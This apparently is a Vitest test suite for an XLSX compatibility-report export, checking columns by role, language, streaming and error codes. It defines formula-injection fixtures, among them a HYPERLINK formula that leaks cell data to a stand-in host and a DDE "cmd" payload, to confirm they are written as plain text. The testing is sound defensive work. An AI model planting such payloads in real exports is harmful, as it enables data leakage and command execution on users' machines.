import { idOfHref, type CompatibilityInfo, type Item, type Reference, type Version } from '@dp/contract';
import ExcelJS from 'exceljs';
import { execFileSync, spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import zlib from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  compatibilityReport,
  REPORT_LIMITS,
} from '../../src/modules/compatibility-report/compatibility-report.service.js';
import { buildTestApp, type TestApp, type TestRole } from '../support/test-app.js';

let t: TestApp;

const ALL = '/api/reports/systems/assemblies';
const one = (systemId: number | string) => `/api/reports/systems/${systemId}/assemblies`;
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const STATUS_EN = {
  allowed: 'Allowed',
  conditional: 'Conditional',
  forbidden: 'Forbidden',
  irrelevant: 'Irrelevant',
} as const;

// Names a spreadsheet could take for formulas (CSV/formula injection), created through the API.
const FORMULA_SYSTEM = '=HYPERLINK("https://evil.example/?leak="&A2,"click")';
const FORMULA_VERSION = '+1.0';
const FORMULA_ASSEMBLY = '@SUM(1+1)';
const FORMULA_PART = '-2+3';
const FORMULA_MATERIAL = '=1+1';
const FORMULA_OBLIGATION = "=cmd|' /C calc'!A0";
const FORMULA_REFERENCE = '=REF()-1';
const COMMENT = 'Geprüft, siehe =A1';
// Written through SQL: the API trims leading tabs and carriage returns away, but older or imported
// data may hold them, and characters XML 1.0 forbids.
const TAB_ASSEMBLY = '\tTab-first assembly';
const CR_OBLIGATION = '\rCR first\r\nsecond line \u0001\u000b\ufffe_x0041_ stays literal';
const CR_OBLIGATION_READ = '\rCR first\r\nsecond line _x0041_ stays literal';

const fixture = {} as { systemId: number; systemVersion: Version; assemblyVersions: Version[]; emptySystemId: number };

beforeAll(async () => {
  t = await buildTestApp();
  const system = (await t.call('POST', '/api/systems', { name: FORMULA_SYSTEM })).body as Item;
  fixture.systemId = idOfHref(system.href);
  fixture.systemVersion = (await t.call('POST', `${system.href}/versions`, { name: FORMULA_VERSION })).body as Version;
  const assembly = (await t.call('POST', '/api/assemblies', { name: FORMULA_ASSEMBLY })).body as Item;
  const tabbed = (await t.call('POST', '/api/assemblies', { name: 'Tab placeholder assembly' })).body as Item;
  fixture.assemblyVersions = [
    (await t.call('POST', `${assembly.href}/versions`, { name: FORMULA_PART, name2: FORMULA_MATERIAL }))
      .body as Version,
    (await t.call('POST', `${tabbed.href}/versions`, { name: 'A2V-TAB-1' })).body as Version,
  ];
  const formulaInfo = (
    await t.call('POST', '/api/compatibility_infos', {
      compatibility_status: 'forbidden',
      obligation: FORMULA_OBLIGATION,
    })
  ).body as CompatibilityInfo;
  const crInfo = (
    await t.call('POST', '/api/compatibility_infos', { compatibility_status: 'conditional', obligation: 'placeholder' })
  ).body as CompatibilityInfo;
  const reference = (await t.call('POST', '/api/references', { reference: FORMULA_REFERENCE })).body as Reference;
  const sv = idOfHref(fixture.systemVersion.href);
  const [a1, a2] = fixture.assemblyVersions.map((v) => idOfHref(v.href));
  const pair = (av: number) => `/api/systems/versions/${sv}/compatibilities/assemblies/${av}`;
  expect((await t.call('POST', pair(a1!), { compatibility_info: { href: formulaInfo.href } })).status).toBe(201);
  expect((await t.call('POST', pair(a2!), { compatibility_info: { href: crInfo.href } })).status).toBe(201);
  expect((await t.call('POST', `${pair(a1!)}/references`, { reference_info: { href: reference.href } })).status).toBe(
    204,
  );
  expect((await t.call('POST', `${pair(a1!)}/commentaries`, { comment: COMMENT })).status).toBe(201);
  await t.pool.query('update items set name = $1 where id = $2', [TAB_ASSEMBLY, idOfHref(tabbed.href)]);
  await t.pool.query('update compatibility_infos set obligation = $1 where id = $2', [
    CR_OBLIGATION,
    idOfHref(crInfo.href),
  ]);

  const empty = (await t.call('POST', '/api/systems', { name: 'Report Test System Without Versions' })).body as Item;
  fixture.emptySystemId = idOfHref(empty.href);
});
afterAll(() => t.close());

// ---- helpers ----------------------------------------------------------------------------------

async function download(
  url: string,
  role: TestRole = 'admin',
  payload: unknown = { type: 'xls' },
  headers: Record<string, string> = {},
) {
  return t.app.inject({
    method: 'POST',
    url,
    payload: payload as object,
    headers: { ...(await t.as(role)), ...headers },
  });
}

async function workbookOf(file: Buffer) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(file as unknown as ArrayBuffer);
  return workbook;
}

/** Every file of a zip archive, inflated, by name: to look at the XML exactly as Excel gets it. */
function unzip(file: Buffer): Map<string, string> {
  const end = file.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
  const count = file.readUInt16LE(end + 10);
  let at = file.readUInt32LE(end + 16);
  const entries = new Map<string, string>();
  for (let i = 0; i < count; i++) {
    expect(file.readUInt32LE(at)).toBe(0x02014b50);
    const method = file.readUInt16LE(at + 10);
    const compressed = file.readUInt32LE(at + 20);
    const nameLength = file.readUInt16LE(at + 28);
    const skip = nameLength + file.readUInt16LE(at + 30) + file.readUInt16LE(at + 32);
    const local = file.readUInt32LE(at + 42);
    const name = file.toString('utf8', at + 46, at + 46 + nameLength);
    const start = local + 30 + file.readUInt16LE(local + 26) + file.readUInt16LE(local + 28);
    const data = file.subarray(start, start + compressed);
    entries.set(name, (method === 8 ? zlib.inflateRawSync(data) : data).toString('utf8'));
    at += 46 + skip;
  }
  return entries;
}

const textOf = (cell: ExcelJS.Cell) => (cell.value === null || cell.value === undefined ? '' : cell.text);
const rowTexts = (sheet: ExcelJS.Worksheet, n: number) => {
  const row = sheet.getRow(n);
  return Array.from({ length: sheet.columnCount }, (_, i) => textOf(row.getCell(i + 1)));
};
const dataRows = (sheet: ExcelJS.Worksheet) =>
  Array.from({ length: sheet.rowCount - 1 }, (_, i) => rowTexts(sheet, i + 2));

type DbRow = {
  system: string;
  version: string;
  assembly: string;
  part: string | null;
  material: string | null;
  status: keyof typeof STATUS_EN;
  obligation: string;
  refs: string;
  modified_ms: number;
};

/** What the database holds for the system–assembly compatibilities, independent of the report's queries. */
async function dbRows(systemId?: number): Promise<DbRow[]> {
  const result = await t.pool.query<DbRow>(
    `select si.name as system, sv.name as version, ai.name as assembly, av.name as part, av.name2 as material,
            ci.compatibility_status as status, ci.obligation,
            coalesce((select string_agg(r.reference, '; ' order by r.reference)
                      from compatibility_references cr join "references" r on r.id = cr.reference_id
                      where cr.compatibility_id = c.id), '') as refs,
            (extract(epoch from date_trunc('second', c.modification_time)) * 1000)::float8 as modified_ms
     from compatibilities c
     join versions sv on sv.id = c.from_version_id join items si on si.id = sv.item_id
     join versions av on av.id = c.to_version_id join items ai on ai.id = av.item_id
     join compatibility_infos ci on ci.id = c.compatibility_info_id
     where c.from_kind = 'system' and c.to_kind = 'assembly' and ($1::int is null or si.id = $1)`,
    [systemId ?? null],
  );
  return result.rows;
}

/** The seeded system with the most assembly compatibilities. */
async function busiestSystem(): Promise<{ id: number; name: string }> {
  const result = await t.pool.query<{ id: number; name: string }>(
    `select si.id, si.name from compatibilities c join versions sv on sv.id = c.from_version_id join items si on si.id = sv.item_id
     where c.to_kind = 'assembly' and c.from_kind = 'system' group by si.id, si.name order by count(*) desc, si.id limit 1`,
  );
  return result.rows[0]!;
}

const HEADERS_ADMIN = [
  'System',
  'System version',
  'Assembly',
  'Part number (GS)',
  'Material number (GS)',
  'Status',
  'Obligation text',
  'References',
  'Comments',
  'Modified',
];
const HEADERS_INTERN = HEADERS_ADMIN.filter((h) => h !== 'Comments');
const HEADERS_EXTERN = [
  'System',
  'System version',
  'Assembly',
  'Part number (GS)',
  'Material number (GS)',
  'Status',
  'Modified',
];

// ---- the file ---------------------------------------------------------------------------------

describe('compatibility report of all systems', () => {
  let file: Buffer;
  let workbook: ExcelJS.Workbook;
  let sheet: ExcelJS.Worksheet;

  beforeAll(async () => {
    const res = await download(ALL, 'admin');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe(XLSX);
    expect(res.headers['content-disposition']).toBe('attachment; filename="report.xlsx"');
    expect(res.headers['cache-control']).toBe('no-store');
    file = res.rawPayload;
    workbook = await workbookOf(file);
    sheet = workbook.worksheets[0]!;
  });

  it('is a zip of an XLSX workbook with a data sheet and an about sheet', () => {
    expect(file.subarray(0, 4)).toEqual(Buffer.from([0x50, 0x4b, 0x03, 0x04]));
    expect(workbook.worksheets.map((s) => s.name)).toEqual(['Compatibilities', 'About this report']);
  });

  it('has a header row that stays frozen, an autofilter over every row and set column widths', () => {
    expect(rowTexts(sheet, 1)).toEqual(HEADERS_ADMIN);
    expect(sheet.getRow(1).getCell(1).font?.bold).toBe(true);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1, topLeftCell: 'A2' });
    expect(sheet.autoFilter).toBe(`A1:J${sheet.rowCount}`);
    const widths = sheet.columns.map((c) => c.width);
    expect(widths).toHaveLength(HEADERS_ADMIN.length);
    for (const width of widths) expect(width).toBeGreaterThanOrEqual(14);
    expect(widths[6]).toBeGreaterThan(widths[1]!); // the obligation text gets room
  });

  it('has one row per system–assembly compatibility in the database', async () => {
    const expected = await dbRows();
    expect(sheet.rowCount - 1).toBe(expected.length);
    const about = workbook.worksheets[1]!;
    const facts = new Map(
      Array.from({ length: about.rowCount }, (_, i) => rowTexts(about, i + 1)).map(([k = '', v = '']) => [k, v]),
    );
    expect(facts.get('Systems')).toBe('All systems');
    expect(facts.get('Compatibilities listed')).toBe(String(expected.length));
    expect(facts.get('Created by')).toBe('admin');
  });

  it('colours rows by status like the screens', () => {
    const fills = new Map<string, string | undefined>();
    for (let n = 2; n <= sheet.rowCount; n++) {
      const status = sheet.getRow(n).getCell(6);
      fills.set(textOf(status), (status.fill as ExcelJS.FillPattern | undefined)?.fgColor?.argb);
      // The whole row carries its status colour.
      expect((sheet.getRow(n).getCell(1).fill as ExcelJS.FillPattern).fgColor?.argb).toBe(fills.get(textOf(status)));
    }
    expect(Object.fromEntries(fills)).toEqual({
      Allowed: 'FFD3F9D8',
      Conditional: 'FFFFE8CC',
      Forbidden: 'FFFFE3E3',
      Irrelevant: 'FFC5F6FA',
    });
  });

  it('keeps admins’ comments with author and time (dd.MM.yyyy HH:mm:ss)', () => {
    const row = dataRows(sheet).find((r) => r[0] === FORMULA_SYSTEM && r[2] === FORMULA_ASSEMBLY)!;
    expect(row[8]).toMatch(
      new RegExp(
        `^admin, \\d\\d\\.\\d\\d\\.\\d{4} \\d\\d:\\d\\d:\\d\\d: ${COMMENT.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}$`,
      ),
    );
  });

  it('writes the modification time as a date shown as dd.MM.yyyy HH:mm:ss in the server’s time zone', async () => {
    const [expected] = (await dbRows(fixture.systemId)).filter((r) => r.assembly === FORMULA_ASSEMBLY);
    const n = dataRows(sheet).findIndex((r) => r[2] === FORMULA_ASSEMBLY) + 2;
    const cell = sheet.getRow(n).getCell(10);
    expect(cell.numFmt).toBe('dd.mm.yyyy hh:mm:ss');
    const shown = new Date(expected!.modified_ms);
    // exceljs reads the cell's wall-clock time back as the UTC fields of a Date.
    expect((cell.value as Date).toISOString().slice(0, 19)).toBe(
      new Date(shown.getTime() - shown.getTimezoneOffset() * 60_000).toISOString().slice(0, 19),
    );
  });
});

describe('content of one system, compared with the database', () => {
  it('lists every assembly compatibility of the system with its status, obligation text and references', async () => {
    const system = await busiestSystem();
    const res = await download(one(system.id), 'intern');
    expect(res.statusCode).toBe(200);
    const sheet = (await workbookOf(res.rawPayload)).worksheets[0]!;
    expect(rowTexts(sheet, 1)).toEqual(HEADERS_INTERN);
    const got = dataRows(sheet).map((r) => r.slice(0, 8));
    const expected = (await dbRows(system.id)).map((r) => [
      r.system,
      r.version,
      r.assembly,
      r.part ?? '',
      r.material ?? '',
      STATUS_EN[r.status],
      r.obligation,
      r.refs,
    ]);
    expect(expected.length).toBeGreaterThan(20);
    expect(got.length).toBe(expected.length);
    const key = (r: string[]) => JSON.stringify(r);
    expect(got.map(key).sort()).toEqual(expected.map(key).sort());
    // Some carry references and obligation texts, so the comparison above is not trivially of empty cells.
    expect(got.some((r) => r[7] !== '')).toBe(true);
    expect(got.some((r) => r[6] !== '')).toBe(true);
  });

  it('groups rows by system version in version order, then by assembly', async () => {
    const system = await busiestSystem();
    const sheet = (await workbookOf((await download(one(system.id), 'intern')).rawPayload)).worksheets[0]!;
    const rows = dataRows(sheet);
    const versions = rows.map((r) => r[1]!).filter((v, i, all) => i === 0 || all[i - 1] !== v);
    expect(new Set(versions).size).toBe(versions.length); // each version in one block
    expect(versions).toEqual([...versions].sort((a, b) => a.localeCompare(b, undefined, { numeric: true })));
  });

  it('contains only that system', async () => {
    const system = await busiestSystem();
    const sheet = (await workbookOf((await download(one(system.id), 'admin')).rawPayload)).worksheets[0]!;
    const systems = new Set(dataRows(sheet).map((r) => r[0]));
    expect([...systems]).toEqual([system.name]);
    const about = workbookOf((await download(one(system.id), 'admin')).rawPayload);
    expect(rowTexts((await about).worksheets[1]!, 3)).toEqual(['Systems', system.name]);
  });

  it('of a system without versions is the header row alone', async () => {
    const res = await download(one(fixture.emptySystemId), 'admin');
    expect(res.statusCode).toBe(200);
    const sheet = (await workbookOf(res.rawPayload)).worksheets[0]!;
    expect(sheet.rowCount).toBe(1);
    expect(sheet.autoFilter).toBe('A1:J1');
  });
});

describe('role projection', () => {
  it('gives extern statuses only: no obligation, reference or comments column, no such text anywhere in the file', async () => {
    const res = await download(ALL, 'extern');
    expect(res.statusCode).toBe(200);
    const workbook = await workbookOf(res.rawPayload);
    const sheet = workbook.worksheets[0]!;
    expect(rowTexts(sheet, 1)).toEqual(HEADERS_EXTERN);
    expect(sheet.columnCount).toBe(HEADERS_EXTERN.length);
    expect(dataRows(sheet).map((r) => r[5])).toContain('Forbidden');

    const xml = [...unzip(res.rawPayload).values()].join('\n');
    const rows = await dbRows();
    const comments = (await t.pool.query<{ comment: string }>('select distinct comment from comments')).rows.map(
      (r) => r.comment,
    );
    const secrets = new Set([
      ...rows.map((r) => r.obligation).filter((o) => o.length > 3),
      ...rows.flatMap((r) => (r.refs ? r.refs.split('; ') : [])),
      ...comments,
      FORMULA_OBLIGATION,
      COMMENT,
    ]);
    expect(secrets.size).toBeGreaterThan(5);
    // Searched for as they stand in the XML: & < > " ' escaped; the longest run without control
    // characters (those are escaped or dropped).
    const inXml = (text: string) =>
      text
        .split(/[\u0000-\u001f\ufffe\uffff]/)
        .sort((a, b) => b.length - a.length)[0]!
        .replace(/&/g, '&amp;')
        .replace(/</g, '&lt;')
        .replace(/>/g, '&gt;')
        .replace(/"/g, '&quot;')
        .replace(/'/g, '&apos;');
    for (const secret of secrets) expect(xml, secret).not.toContain(inXml(secret));
  });

  it('gives intern obligation texts and references but no comments', async () => {
    const res = await download(one(fixture.systemId), 'intern');
    const sheet = (await workbookOf(res.rawPayload)).worksheets[0]!;
    expect(rowTexts(sheet, 1)).toEqual(HEADERS_INTERN);
    expect(res.rawPayload.includes(Buffer.from('Geprüft'))).toBe(false);
    expect([...unzip(res.rawPayload).values()].join('')).not.toContain('Geprüft');
  });
});

describe('texts that look like formulas or break XML', () => {
  let res: Awaited<ReturnType<typeof download>>;
  let sheet: ExcelJS.Worksheet;
  beforeAll(async () => {
    res = await download(one(fixture.systemId), 'admin');
    sheet = (await workbookOf(res.rawPayload)).worksheets[0]!;
  });

  it('stays text: a name starting with = is a string cell, never a formula', () => {
    const n = dataRows(sheet).findIndex((r) => r[2] === FORMULA_ASSEMBLY) + 2;
    const row = sheet.getRow(n);
    expect(rowTexts(sheet, n).slice(0, 8)).toEqual([
      FORMULA_SYSTEM,
      FORMULA_VERSION,
      FORMULA_ASSEMBLY,
      FORMULA_PART,
      FORMULA_MATERIAL,
      'Forbidden',
      FORMULA_OBLIGATION,
      FORMULA_REFERENCE,
    ]);
    for (let c = 1; c <= 8; c++) {
      const cell = row.getCell(c);
      expect(cell.type, `column ${c}`).not.toBe(ExcelJS.ValueType.Formula);
      expect(cell.formula, `column ${c}`).toBeUndefined();
      // The Text format keeps it text when someone edits the cell in Excel or LibreOffice.
      expect(cell.numFmt, `column ${c}`).toBe('@');
    }
  });

  it('writes every text as an inline string and no formula element at all', () => {
    const xml = unzip(res.rawPayload).get('xl/worksheets/sheet1.xml')!;
    expect(xml).not.toMatch(/<f[\s>]/);
    expect(xml).not.toMatch(/t="(str|s)"/);
    expect(xml).toContain('t="inlineStr"');
    expect(xml).toContain('=HYPERLINK(&quot;https://evil.example/?leak=&quot;&amp;A2,&quot;click&quot;)');
  });

  it('keeps a leading tab and carriage returns, drops what XML forbids and keeps _xHHHH_ literal', () => {
    const rows = dataRows(sheet);
    const tabbed = rows.find((r) => r[2] === TAB_ASSEMBLY);
    expect(tabbed, JSON.stringify(rows.map((r) => r[2]))).toBeDefined();
    expect(tabbed![6]).toBe(CR_OBLIGATION_READ);
    const xml = unzip(res.rawPayload).get('xl/worksheets/sheet1.xml')!;
    expect(xml).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/);
    expect(xml).toContain('_x000D_CR first');
  });
});

describe('language', () => {
  it('follows Accept-Language: German headers, statuses and sheet names', async () => {
    const res = await download(
      one(fixture.systemId),
      'intern',
      { type: 'xls' },
      { 'accept-language': 'de-DE,de;q=0.9,en;q=0.5' },
    );
    expect(res.headers['content-language']).toBe('de');
    const workbook = await workbookOf(res.rawPayload);
    expect(workbook.worksheets.map((s) => s.name)).toEqual(['Kompatibilitäten', 'Zu diesem Bericht']);
    const sheet = workbook.worksheets[0]!;
    expect(rowTexts(sheet, 1)).toEqual([
      'System',
      'Systemversion',
      'Baugruppe',
      'Siemens-Sach-Nr. (GS)',
      'Material-Nr. (GS)',
      'Status',
      'Auflagentext',
      'Referenzen',
      'Geändert',
    ]);
    expect(new Set(dataRows(sheet).map((r) => r[5]))).toEqual(new Set(['Verboten', 'Vorbehalt']));
  });

  it('French', async () => {
    const res = await download(one(fixture.systemId), 'extern', { type: 'xls' }, { 'accept-language': 'fr' });
    const sheet = (await workbookOf(res.rawPayload)).worksheets[0]!;
    expect(rowTexts(sheet, 1)).toEqual([
      'Système',
      'Version du système',
      'Sous-ensemble',
      'N° de pièce (GS)',
      'N° de matériel (GS)',
      'Statut',
      'Modifié',
    ]);
  });
});

describe('refusals', () => {
  it('answers 401 without a token and 403 to a user without a role', async () => {
    const anonymous = await t.app.inject({ method: 'POST', url: ALL, payload: { type: 'xls' } });
    expect(anonymous.statusCode).toBe(401);
    expect((await download(ALL, 'norole')).statusCode).toBe(403);
    expect((await download(one(fixture.systemId), 'norole')).statusCode).toBe(403);
  });

  it('answers 404 for an unknown system and for an id that is not a system', async () => {
    const unknown = await download(one(2_000_000_000), 'intern');
    expect(unknown.statusCode).toBe(404);
    expect(unknown.json().message).toBe('System 2000000000 was not found.');
    const assemblyId = (await t.pool.query<{ id: number }>(`select id from items where kind = 'assembly' limit 1`))
      .rows[0]!.id;
    expect((await download(one(assemblyId), 'intern')).statusCode).toBe(404);
    const german = await download(one(2_000_000_000), 'intern', { type: 'xls' }, { 'accept-language': 'de' });
    expect(german.json().message).toBe('System 2000000000 wurde nicht gefunden.');
  });

  it.each(['abc', '0', '-1', '1.5', '99999999999'])('answers 400 for the system id %j', async (id) => {
    const res = await download(one(id), 'intern');
    expect(res.statusCode).toBe(400);
    expect(res.json().message).toMatch(/Path parameter 'id'/);
  });

  it.each([
    ['another type', { type: 'pdf' }],
    ['an extra key', { type: 'xls', system: 1 }],
    ['no type', {}],
    ['a type that is not text', { type: 1 }],
  ])('answers 400 for a body with %s', async (_, body) => {
    const res = await download(ALL, 'admin', body);
    expect(res.statusCode).toBe(400);
    expect(res.headers['content-type']).toMatch(/application\/json/);
    expect(res.json().message).toMatch(/Body/);
  });

  it('answers 400 without a body or with one that is not JSON', async () => {
    const none = await t.app.inject({ method: 'POST', url: ALL, headers: await t.as('admin') });
    expect(none.statusCode).toBe(400);
    const broken = await t.app.inject({
      method: 'POST',
      url: ALL,
      payload: '{type:',
      headers: { ...(await t.as('admin')), 'content-type': 'application/json' },
    });
    expect(broken.statusCode).toBe(400);
  });
});

describe('API description', () => {
  it('lists both routes in the OpenAPI document', async () => {
    const doc = (await t.app.inject({ url: '/api/openapi.json', headers: await t.as('admin') })).json<{
      paths: Record<string, { post?: { summary?: string } }>;
    }>();
    expect(doc.paths['/api/reports/systems/assemblies']?.post?.summary).toMatch(/all systems/);
    expect(doc.paths['/api/reports/systems/{id}/assemblies']?.post?.summary).toMatch(/one system/);
  });
});

describe('deployments', () => {
  it('is answered on live, where data writes are refused', async () => {
    const live = await buildTestApp({ DEPLOYMENT: 'live' });
    try {
      const headers = await live.as('extern');
      const report = await live.app.inject({ method: 'POST', url: ALL, payload: { type: 'xls' }, headers });
      expect(report.statusCode).toBe(200);
      expect(report.headers['content-type']).toBe(XLSX);
      const write = await live.app.inject({
        method: 'POST',
        url: '/api/systems',
        payload: { name: 'Not on live' },
        headers: await live.as('admin'),
      });
      expect(write.statusCode).toBe(403);
    } finally {
      await live.close();
    }
  });
});

// ---- streaming ---------------------------------------------------------------------------------

describe('streaming', () => {
  it('continues on further sheets when one is full, each with its header, frozen pane and filter', async () => {
    const system = await busiestSystem();
    const whole = dataRows((await workbookOf((await download(one(system.id), 'intern')).rawPayload)).worksheets[0]!);
    // Excel's 1,048,576 rows per sheet, scaled down to 20 data rows a sheet; pages of 7 rows do not line up with sheets.
    const stream = await compatibilityReport(
      t.db,
      { role: 'intern', username: 'intern', language: 'de', systemId: system.id },
      { rowsPerSheet: 21, pageSize: 7 },
    );
    const workbook = await workbookOf(Buffer.concat(await stream.toArray()));
    const sheets = workbook.worksheets.slice(0, -1);
    expect(sheets).toHaveLength(Math.ceil(whole.length / 20));
    expect(sheets.map((s) => s.name)).toEqual([
      'Kompatibilitäten',
      ...sheets.slice(1).map((_, i) => `Kompatibilitäten ${i + 2}`),
    ]);
    for (const sheet of sheets) {
      expect(rowTexts(sheet, 1)[0]).toBe('System');
      expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
      expect(sheet.autoFilter).toBe(`A1:I${sheet.rowCount}`);
    }
    expect(sheets.slice(0, -1).every((s) => s.rowCount === 21)).toBe(true);
    // The same rows in the same order as on one sheet (the German statuses aside).
    const strip = (r: string[]) => [...r.slice(0, 5), ...r.slice(6, 8)];
    expect(sheets.flatMap(dataRows).map(strip)).toEqual(whole.map(strip));
  });

  it('waits for a reader that does not read, and ends its transaction when the reader leaves', async () => {
    const openTransactions = async () =>
      (
        await t.pool.query<{ n: number }>(
          `select count(*)::int as n from pg_stat_activity where datname = current_database() and state like 'idle in transaction%'`,
        )
      ).rows[0]!.n;
    expect(await openTransactions()).toBe(0);
    const stream = await compatibilityReport(
      t.db,
      { role: 'admin', username: 'admin', language: 'en' },
      { ...REPORT_LIMITS, pageSize: 5 },
    );
    // Nothing is read: once the buffers are full the report waits with its snapshot open instead of
    // generating on into memory (the whole S report takes well under this long).
    await new Promise((resolve) => setTimeout(resolve, 700));
    expect(stream.readableEnded).toBe(false);
    expect(await openTransactions()).toBe(1);
    stream.destroy();
    await expect.poll(openTransactions, { timeout: 5000 }).toBe(0);
    await expect.poll(() => t.pool.idleCount === t.pool.totalCount, { timeout: 5000 }).toBe(true);
    // The server goes on answering.
    expect((await download(one(fixture.systemId), 'extern')).statusCode).toBe(200);
  });
});

// ---- a second, independent reader -------------------------------------------------------------

/** A Python with openpyxl (Debian's python3-openpyxl; .ci/run installs it), or null. */
function pythonWithOpenpyxl(): string | null {
  for (const python of ['/usr/bin/python3', 'python3']) {
    if (spawnSync(python, ['-c', 'import openpyxl'], { stdio: 'ignore' }).status === 0) return python;
  }
  return null;
}
const python = pythonWithOpenpyxl();

describe.skipIf(python === null)('read by openpyxl', () => {
  it('opens, with the frozen header, the autofilter, string cells and the same rows', async () => {
    const res = await download(ALL, 'admin');
    const dir = mkdtempSync(path.join(os.tmpdir(), 'dp-report-'));
    try {
      const filePath = path.join(dir, 'report.xlsx');
      writeFileSync(filePath, res.rawPayload);
      const script = `
import json, sys, openpyxl
wb = openpyxl.load_workbook(sys.argv[1])
ws = wb.worksheets[0]
rows = list(ws.iter_rows(min_row=2))
target = [r for r in rows if r[2].value == sys.argv[2]][0]
print(json.dumps({
  "sheets": wb.sheetnames,
  "freeze": ws.freeze_panes,
  "filter": ws.auto_filter.ref,
  "header": [c.value for c in next(ws.iter_rows(max_row=1))],
  "rows": len(rows),
  "types": sorted({c.data_type for r in rows for c in r[:9] if c.value is not None}),
  "target": [c.value for c in target[:8]],
  "targetTypes": [c.data_type for c in target[:8]],
  "dateFormat": target[9].number_format,
  "dateType": target[9].data_type,
}))`;
      const out = JSON.parse(
        execFileSync(python!, ['-c', script, filePath, FORMULA_ASSEMBLY], { encoding: 'utf8' }),
      ) as Record<string, unknown>;
      const expectedRows = (await dbRows()).length;
      expect(out).toMatchObject({
        sheets: ['Compatibilities', 'About this report'],
        freeze: 'A2',
        filter: `A1:J${expectedRows + 1}`,
        header: HEADERS_ADMIN,
        rows: expectedRows,
        types: ['s'],
        target: [
          FORMULA_SYSTEM,
          FORMULA_VERSION,
          FORMULA_ASSEMBLY,
          FORMULA_PART,
          FORMULA_MATERIAL,
          'Forbidden',
          FORMULA_OBLIGATION,
          FORMULA_REFERENCE,
        ],
        targetTypes: ['s', 's', 's', 's', 's', 's', 's', 's'],
        dateFormat: 'dd.mm.yyyy hh:mm:ss',
        dateType: 'd',
      });
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
